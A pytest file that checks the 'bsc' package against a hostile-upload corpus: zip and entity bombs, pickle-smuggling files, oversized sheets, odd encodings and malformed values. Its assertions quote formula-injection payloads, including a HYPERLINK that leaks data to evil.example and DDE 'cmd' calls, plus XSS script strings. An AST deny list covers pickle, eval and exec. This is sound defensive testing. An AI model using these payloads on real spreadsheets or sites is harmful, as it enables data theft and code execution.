"""The hostile corpus: every file in tests/hostile/README.md is refused with its message or read with
the problems the user must see, through bsc and through the command line; nothing in a file is ever
unpickled or evaluated; memory stays bounded whatever a file would unpack to."""

from __future__ import annotations

import ast
import contextlib
import json
import math
import pickle
import re
import subprocess
import sys
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest

from bsc.cli import main
from bsc.errors import InputError
from bsc.ingest import MAX_UPLOAD_BYTES, read_path, read_tables
from bsc.large_files import is_streamed
from bsc.prepare import InspectedTable, inspect_file
from tests.hostile.make_corpus import UNPICKLED_MARKER, WRITERS, pickle_bytes, write_corpus

HOSTILE = Path(__file__).parent / "hostile"
ROOT = Path(__file__).resolve().parents[1]
_ROW = re.compile(
    r"^\| `(?P<file>[^`]+)` \| (?P<made>committed|generated) \| (?P<trap>.+?) "
    r"\| (?P<outcome>refused|warned|read) \| (?P<shown>.+) \|$"
)


@dataclass(frozen=True)
class Case:
    """One row of the corpus table: the file, how it is made, and what the user must see."""

    file: str
    made: str
    outcome: str
    message: str | None

    def __str__(self) -> str:
        return self.file


def corpus_cases() -> list[Case]:
    cases = []
    for line in (HOSTILE / "README.md").read_text(encoding="utf-8").splitlines():
        row = _ROW.match(line)
        if row is None:
            continue
        quoted = re.match(r"`(.+?)`", row["shown"])
        message = quoted.group(1) if quoted and row["outcome"] != "read" else None
        cases.append(Case(row["file"], row["made"], row["outcome"], message))
    return cases


CASES = corpus_cases()


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    write_corpus(folder)
    return folder


def corpus_path(case: Case | str, generated: Path) -> Path:
    name = str(case)
    committed = HOSTILE / name
    return committed if committed.is_file() else generated / name


def inspect(path: Path) -> list[InspectedTable]:
    """What the Data page does with an upload; a file over the limit is refused before it is read."""
    if path.stat().st_size > MAX_UPLOAD_BYTES:
        read_path(path)
    return inspect_file(path.name, path.read_bytes())


def problems_of(tables: list[InspectedTable]) -> list[tuple[str, str]]:
    found = []
    for table in tables:
        found += [(p.severity, p.message) for p in table.raw.problems]
        if table.prepared is not None:
            found += [(p.severity, p.message) for p in table.prepared.problems]
        if table.error:
            found.append(("error", table.error))
    return found


def frame_of(name: str, generated: Path, sheet: int = 0) -> pd.DataFrame:
    return inspect(corpus_path(name, generated))[sheet].raw.frame


def canonical_of(name: str, generated: Path, sheet: int = 0) -> pd.DataFrame:
    prepared = inspect(corpus_path(name, generated))[sheet].prepared
    assert prepared is not None
    return prepared.canonical


class TestTheCorpus:
    def test_at_least_30_files_each_with_its_outcome(self):
        assert len(CASES) >= 30
        assert len({case.file for case in CASES}) == len(CASES)
        for case in CASES:
            assert case.outcome == "read" or case.message, case

    def test_every_committed_file_is_listed(self):
        committed = {p.name for p in HOSTILE.iterdir() if p.is_file()} - {"README.md", "make_corpus.py"}
        assert committed == {case.file for case in CASES if case.made == "committed"}

    def test_every_generated_file_is_listed(self):
        assert set(WRITERS) == {case.file for case in CASES if case.made == "generated"}


@pytest.mark.parametrize("case", CASES, ids=str)
def test_through_bsc(case: Case, generated: Path):
    path = corpus_path(case, generated)
    if case.outcome == "refused":
        with pytest.raises(InputError) as caught:
            inspect(path)
        assert case.message in str(caught.value)
        assert "\n" not in str(caught.value)
        return
    problems = problems_of(inspect(path))
    if case.outcome == "warned":
        assert any(case.message in message for _, message in problems), problems
    else:
        assert [p for p in problems if p[0] in ("warning", "error")] == []


@pytest.mark.parametrize("case", CASES, ids=str)
def test_through_the_command_line(case: Case, generated: Path, capsys: pytest.CaptureFixture[str]):
    code = main(["inspect", str(corpus_path(case, generated))])
    out, err = capsys.readouterr()
    if case.outcome == "refused":
        assert code == 2
        assert out == ""
        assert err.count("\n") == 1 and err.startswith("error: ")
        assert case.message in err
        return
    assert code == 0
    assert err == ""
    if case.outcome == "warned":
        assert case.message in out
    else:
        assert "[warning]" not in out and "[error]" not in out


@pytest.mark.parametrize(
    ("name", "code", "shown"),
    [
        ("zip_bomb.xlsx", 2, "would unpack to 600 MB"),
        ("nan_inf.csv", 0, "Amount: 4 rows are not a number; left empty."),
    ],
    ids=["refused", "read"],
)
def test_a_real_command_line_process(name: str, code: int, shown: str, generated: Path):
    done = subprocess.run(
        [sys.executable, "-m", "bsc", "inspect", str(corpus_path(name, generated))],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == code
    if code:
        assert done.stdout == ""
        assert done.stderr.count("\n") == 1 and shown in done.stderr
    else:
        assert done.stderr == "" and shown in done.stdout


class TestNothingInAFileRuns:
    def test_the_pickle_payload_is_live(self, tmp_path: Path):
        # Proof that the next test can fail: unpickling the corpus payload creates the marker.
        pickle.loads(pickle_bytes(tmp_path))
        assert (tmp_path / UNPICKLED_MARKER).is_dir()

    def test_no_pickle_is_ever_opened(self, generated: Path, capsys: pytest.CaptureFixture[str]):
        smuggling = [
            "pickle_named.csv",
            "pickle_named.parquet",
            "pickle_named.xlsx",
            "pickled_extension.parquet",
        ]
        for name in smuggling:
            path = generated / name
            with contextlib.suppress(InputError):
                inspect(path)
            main(["inspect", str(path)])
        capsys.readouterr()
        assert not (generated / UNPICKLED_MARKER).exists()

    def test_no_code_unpickles_or_evaluates(self):
        # Every import and call in the app and the package, read from the source: none that could
        # run data as code (pickle and its kin, eval and exec, pandas' eval and read_pickle).
        # joblib is allowed for its Parallel (which pickles the app's own objects between workers),
        # not for joblib.load; so is concurrent.futures' process pool (bsc/worker_process.py), which
        # carries the app's own jobs (a module-level function and plain data) to its worker.
        modules = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "yaml"}
        builtins = {"eval", "exec", "compile", "__import__"}
        methods = {"eval", "query", "read_pickle", "literal_eval"}
        found = []
        for path in [
            ROOT / "app.py",
            *ROOT.glob("bsc/*.py"),
            *ROOT.glob("ui/*.py"),
            *ROOT.glob("pages/*.py"),
        ]:
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Import | ast.ImportFrom):
                    names = [alias.name for alias in node.names] + [getattr(node, "module", None) or ""]
                    found += [f"{path.name}: import {n}" for n in names if n.split(".")[0] in modules]
                    if getattr(node, "module", None) == "joblib" and "load" in names:
                        found.append(f"{path.name}: from joblib import load")
                elif (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id in builtins
                ):
                    found.append(f"{path.name}:{node.lineno}: {node.func.id}()")
                elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                    pickled = any(k.arg == "allow_pickle" for k in node.keywords)
                    if node.func.attr in methods or pickled or ast.unparse(node.func) == "joblib.load":
                        found.append(f"{path.name}:{node.lineno}: .{node.func.attr}()")
        assert found == []

    def test_formula_cells_stay_text(self, generated: Path):
        # formula_injection.csv as written, the CSV quoting undone by hand.
        assert frame_of("formula_injection.csv", generated)["name"].tolist() == [
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
        ]

    def test_markup_in_names_and_cells_stays_text(self, generated: Path):
        frame = frame_of("html_payloads.csv", generated)
        assert list(frame.columns) == [
            "customer_id",
            "<script>alert('column')</script>",
            "[click me](javascript:alert(1))",
        ]
        assert frame.iloc[:, 1].tolist() == [
            "<img src=x onerror=alert(1)>",
            "<b>bold</b>",
            "</div><script>document.title='pwned'</script>",
        ]


class TestValuesAreReadRight:
    def test_dates_in_five_formats_and_excel_day_numbers(self, generated: Path):
        dates = canonical_of("dates_five_formats.csv", generated)["date"]
        # Every row of the file names 2024-01-31 (first six) or 2024-02-15 (last six); Excel's day
        # number of 2024-01-31 is 45322 (=DATE(2024,1,31) formatted as a number), 45337 is 15 days on.
        assert dates.tolist() == [datetime(2024, 1, 31)] * 6 + [datetime(2024, 2, 15)] * 6

    def test_currency_signs_and_thousands_separators(self, generated: Path):
        amounts = canonical_of("money_formats.csv", generated)["amount"]
        # $1,234.50, USD 99, (12.50), 1,000, £7.25, € 80, 2,500.00, -3.5 as written in the file.
        assert amounts.tolist() == [1234.5, 99.0, -12.5, 1000.0, 7.25, 80.0, 2500.0, -3.5]

    def test_decimal_commas(self, generated: Path):
        canonical = canonical_of("decimal_comma.csv", generated)
        assert canonical["amount"].tolist() == [1234.56, -5.25, 99.99, 12000.0]
        assert canonical["date"].tolist() == [
            datetime(2024, 1, 31),
            *(datetime(2024, 2, d) for d in (1, 2, 3)),
        ]

    def test_infinite_amounts_are_left_empty(self, generated: Path):
        amounts = canonical_of("nan_inf.csv", generated)["amount"]
        raw = frame_of("nan_inf.csv", generated)["amount"]
        unreadable = {"inf", "-inf", "Infinity", "1e400"}
        assert all(math.isnan(a) for a, r in zip(amounts, raw, strict=True) if r in unreadable or pd.isna(r))
        assert all(
            math.isfinite(a) for a, r in zip(amounts, raw, strict=True) if r not in unreadable and pd.notna(r)
        )
        assert amounts.notna().sum() == 40  # 45 rows: 4 infinities and one NaN

    def test_mixed_encodings_keep_their_letters(self, generated: Path):
        frame = frame_of("mixed_encodings.csv", generated)
        assert frame["name"].tolist() == ["Zoë", "Müller", "Ana", "François"]
        assert frame["city"].tolist() == ["Genève", "Köln", "São Paulo", "Liège"]

    @pytest.mark.parametrize("name", ["utf16_bom.csv", "utf16_no_bom.txt"], ids=["with-bom", "without-bom"])
    def test_utf16(self, name: str, generated: Path):
        frame = frame_of(name, generated)
        assert frame["name"].tolist() == ["Zoë", "José"]
        assert frame["city"].tolist() == ["Genève", "São Paulo"]

    def test_nul_characters_are_removed(self, generated: Path):
        frame = frame_of("nul_bytes.csv", generated)
        assert len(frame) == 20
        assert set(frame["plan"]) == {"Basic"}

    def test_excel_errors_are_empty_and_saved_values_kept(self, generated: Path):
        margin = frame_of("formulas_and_errors.xlsx", generated)["margin"]
        # Saved values 0.4 and 0.5; #DIV/0!, #N/A and #DIV/0! in rows 2, 4 and 5.
        assert margin.iloc[[0, 2]].tolist() == [0.4, 0.5]
        assert margin.iloc[[1, 3, 4]].isna().all()

    def test_excel_dates_and_day_numbers(self, generated: Path):
        canonical = canonical_of("excel_dates.xlsx", generated)
        assert canonical["signup_date"].tolist() == [
            datetime(2023, 1, 31),
            datetime(2023, 2, 15),
            datetime(2023, 3, 1),
            datetime(2023, 4, 1),
            datetime(2023, 5, 1),
        ]
        # A real date, day number 45337 (2024-01-31 is 45322), 31/01/2024, 2024-02-15, empty.
        churn = canonical["churn_date"].tolist()
        assert churn[:4] == [
            datetime(2024, 1, 31),
            datetime(2024, 2, 15),
            datetime(2024, 1, 31),
            datetime(2024, 2, 15),
        ]
        assert pd.isna(churn[4])
        assert canonical["churn"].tolist() == [True, True, True, True, False]

    def test_a_sheet_claiming_a_huge_size_is_read_as_it_is(self, generated: Path):
        frame = frame_of("huge_dimension.xlsx", generated)
        assert frame.shape == (3, 3)
        assert frame["customer_id"].tolist() == ["C1", "C2", "C3"]

    def test_a_stray_far_cell_costs_only_its_sheet(self, generated: Path):
        tables = inspect(generated / "stray_far_cell.xlsx")
        assert [t.raw.sheet for t in tables] == ["Customers"]
        assert tables[0].raw.frame["plan"].tolist() == ["Basic", "Pro", "Basic"]

    def test_an_empty_sheet_between_full_ones(self, generated: Path):
        tables = inspect(generated / "empty_sheet_between.xlsx")
        assert [(t.raw.sheet, t.mapping.kind) for t in tables] == [
            ("Customers", "customers"),
            ("Orders", "transactions"),
        ]

    def test_a_far_future_order_is_left_empty_and_its_row_kept(self, generated: Path):
        canonical = canonical_of("far_future_order.csv", generated)
        # 201 rows; the last (row 201, C001, 12.00) is dated 9999-12-31.
        assert len(canonical) == 201
        assert pd.isna(canonical["date"].iloc[200]) and canonical["date"].iloc[:200].notna().all()
        assert canonical[["customer_id", "amount"]].iloc[200].tolist() == ["C001", 12.0]

    def test_a_far_future_order_leaves_the_period_grid_to_the_real_span(
        self, generated: Path, capsys: pytest.CaptureFixture[str]
    ):
        # The other 200 orders fall in the months of 2024 (2024-01 to 2024-12): 12 periods, where
        # the 9999-12-31 order once stretched the grid to 95,712 months.
        assert main(["kpis", "--json", str(corpus_path("far_future_order.csv", generated))]) == 0
        periods = {row["period"] for row in json.loads(capsys.readouterr().out)["kpis"]}
        assert periods == {f"2024-{month:02d}" for month in range(1, 13)}

    @pytest.mark.parametrize("command", ["kpis", "segment"])
    def test_a_placeholder_signup_date_is_no_crash(
        self, command: str, generated: Path, capsys: pytest.CaptureFixture[str]
    ):
        files = [str(corpus_path(n, generated)) for n in ("placeholder_signup.csv", "far_future_order.csv")]
        assert main([command, *files]) == 0
        assert "unexpected" not in capsys.readouterr().err

    @pytest.mark.parametrize(
        ("name", "role", "row"),
        [("nps_eleven.csv", "nps", 149), ("csat_six.csv", "csat", 149), ("churn_maybe.csv", "churn", 49)],
        ids=["nps", "csat", "churn"],
    )
    def test_one_bad_value_keeps_the_role(self, name: str, role: str, row: int, generated: Path):
        # Row 150 of the surveys holds the 11 (or 6), row 50 of the customers "maybe": that cell
        # alone is empty; every other answer is kept.
        values = canonical_of(name, generated)[role]
        assert pd.isna(values.iloc[row])
        assert values.drop(index=row).notna().all()

    def test_float_ids_past_exact_integers_are_empty_not_merged(self, generated: Path):
        ids = canonical_of("float_ids.parquet", generated)["customer_id"]
        # 100000.0 to 100030.0 are exact; 1e20..8e20 and inf are not ids any more.
        assert ids.iloc[:31].tolist() == [str(100_000 + i) for i in range(31)]
        assert ids.iloc[31:].isna().all()
        assert "-9223372036854775808" not in ids.dropna().tolist()

    def test_repeated_parquet_column_names_keep_their_values(self, generated: Path):
        frame = frame_of("duplicate_columns.parquet", generated)
        assert list(frame.columns) == ["customer_id", "amount", "amount.1"]
        assert frame["amount"].tolist() == [1.5, 2.0, 3.0]
        assert frame["amount.1"].tolist() == [4.0, 5.0, 6.5]

    def test_a_title_above_the_header_is_left_out(self, generated: Path):
        frame = frame_of("title_rows.xlsx", generated)
        assert list(frame.columns) == ["customer_id", "order_date", "amount", "channel"]
        assert len(frame) == 30

    def test_lone_cr_line_ends_with_one_lf_inside_a_cell(self, generated: Path):
        frame = frame_of("cr_only_with_lf.csv", generated)
        assert len(frame) == 60_000
        assert frame["note"].iloc[2] == "two\nlines"


# Files that would take hundreds of MB if read naively, each read in a fresh process that reports
# how far its peak memory grew.
_BOMBS = [
    "zip_bomb.xlsx",
    "many_parts.xlsx",
    "xml_entity_bomb.xlsx",
    "wide_10000_columns.xlsx",
    "huge_dimension.xlsx",
    "dictionary_bomb.parquet",
    "null_rows.parquet",
    "one_10mb_line.csv",
    "wide_10000_columns.csv",
]
# Within the upload and unpack limits, yet once costly to read: 1.8 GB (ten million distinct ids),
# more than five minutes (30 million workbook cells), 1.9 GB (a 150 MB CSV file) for `bsc kpis`.
_COSTLY = ["ten_million_ids.parquet", "thirty_million_cells.xlsx", "orders_150mb.csv"]
# What a fresh process reading one file may take: the bounds the product promises.
_PEAK_MB_BOUND = 1024
_SECONDS_BOUND = 60
# The command line does not refuse a text file past the upload's bounds: it streams one larger
# than bsc.large_files.STREAM_FROM_BYTES into Parquet in batches and computes its KPIs (the
# browser upload still refuses it, tests/app/test_hostile_uploads.py). Its memory is bounded by
# the batch and the KPI engine, not the 1 GB of a whole-file read: the 150 MB CSV (5 million
# orders) peaked at 1.37 GB.
_STREAMED_PEAK_MB_BOUND = 2048
_WATCH = """
import json, resource, subprocess, sys, time
start = time.perf_counter()
done = subprocess.run([sys.executable, "-m", "bsc", "kpis", sys.argv[1]], capture_output=True, text=True)
print(json.dumps({
    "code": done.returncode,
    "stderr": done.stderr[-2000:],
    "seconds": time.perf_counter() - start,
    "peak_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024,
}))
"""
_MEASURE = """
import json, resource, sys
from pathlib import Path
from bsc.errors import InputError
from bsc.prepare import inspect_file

def peak_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

inspect_file("warm.csv", b"customer_id,amount\\nC1,1\\nC2,2\\n")
growth = {}
for name in sys.argv[1:]:
    path = Path(name)
    data = path.read_bytes()
    before = peak_mb()
    try:
        inspect_file(path.name, data)
    except InputError:
        pass
    growth[path.name] = peak_mb() - before
print(json.dumps(growth))
"""


class TestMemoryStaysBounded:
    def test_each_bomb_is_refused_or_read_in_little_memory(self, generated: Path):
        done = subprocess.run(
            [sys.executable, "-c", _MEASURE, *(str(generated / name) for name in _BOMBS)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        )
        growth = json.loads(done.stdout)
        # Read naively these take 600 MB (zip bomb, dictionary bomb) or 250 MB and more (null
        # rows, padded rows of a huge sheet); 100 MB leaves room for the reader's own buffers.
        assert set(growth) == set(_BOMBS)
        assert max(growth.values()) < 100, growth

    @pytest.mark.parametrize("name", _COSTLY + _BOMBS, ids=str)
    def test_a_fresh_kpis_process_stays_within_1_gb_and_60_s(self, name: str, generated: Path):
        # One fresh `python -m bsc kpis FILE` per file, started by a small watcher process whose
        # only child it is, so that the children's peak resident set is this file's alone.
        done = subprocess.run(
            [sys.executable, "-c", _WATCH, str(generated / name)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        )
        run = json.loads(done.stdout)
        print(f"{name}: peak {run['peak_mb']:.0f} MB, {run['seconds']:.1f} s, exit {run['code']}")
        streamed = is_streamed(generated / name)
        assert run["peak_mb"] < (_STREAMED_PEAK_MB_BOUND if streamed else _PEAK_MB_BOUND), run
        assert run["seconds"] < _SECONDS_BOUND, run
        assert "unexpected" not in run["stderr"] and "Traceback" not in run["stderr"], run
        if streamed:
            assert run["code"] == 0, run
            return
        expected = next(case.message for case in CASES if case.file == name)
        if expected is not None and next(c.outcome for c in CASES if c.file == name) == "refused":
            assert run["code"] == 2 and expected in run["stderr"], run

    def test_a_zip_bomb_is_refused_before_the_workbook_is_opened(
        self, generated: Path, monkeypatch: pytest.MonkeyPatch
    ):
        import openpyxl

        def never(*args, **kwargs):
            raise AssertionError("the workbook was opened")

        monkeypatch.setattr(openpyxl, "load_workbook", never)
        with pytest.raises(InputError, match="would unpack to 600 MB"):
            read_tables("zip_bomb.xlsx", (generated / "zip_bomb.xlsx").read_bytes())
